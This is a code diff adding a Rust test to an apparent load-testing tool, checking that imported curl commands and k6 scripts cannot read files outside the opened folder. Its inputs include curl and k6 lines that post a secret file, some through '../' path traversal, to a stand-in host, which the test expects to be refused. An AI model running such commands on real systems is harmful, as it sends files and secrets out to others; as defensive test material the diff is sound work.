@@ -380,6 +380,28 @@ fn examples_forms_and_imports_become_plans() {
     assert!(end["capacity"].is_object(), "{end}");
 }
 
+/// Symptom: a script of a page could name any file of the machine.
+#[test]
+fn imports_read_nothing_beside_the_opened_folder() {
+    let ui = Ui::start();
+    let secret = ui.folder.file("secret.yaml");
+    std::fs::write(&secret, "name: secret\n").expect("the folder can be written");
+    for text in [
+        format!("curl -d @{secret} http://a.test/b"),
+        "curl -d @../secret.yaml http://a.test/b".to_owned(),
+        "import http from 'k6/http'\nexport default () => { http.post('http://a.test/', JSON.parse(open('../secret.yaml')).a) }"
+            .to_owned(),
+    ] {
+        let refused = ui.post_for(422, "/api/import", &json!({"name": "", "text": text, "kind": null}));
+        assert!(!refused.to_string().contains("name: secret"), "{text}: {refused}");
+        let is_told = refused.to_string().contains("it is not below the folder of the import");
+        assert!(is_told, "{text}: {refused}");
+    }
+    std::fs::write(ui.folder.file("plans/own.txt"), "opened").expect("the folder can be written");
+    let own = json!({"name": "", "text": "$ curl -d @own.txt http://a.test/b", "kind": null});
+    assert!(ui.post("/api/import", &own)["plan"].as_str().is_some_and(|plan| plan.contains("opened")));
+}
+
 /// Symptom to be avoided: the page's server dies in the middle of the night, and with it the run.
 #[test]
 fn a_server_that_is_killed_leaves_its_run_going_and_saved() {
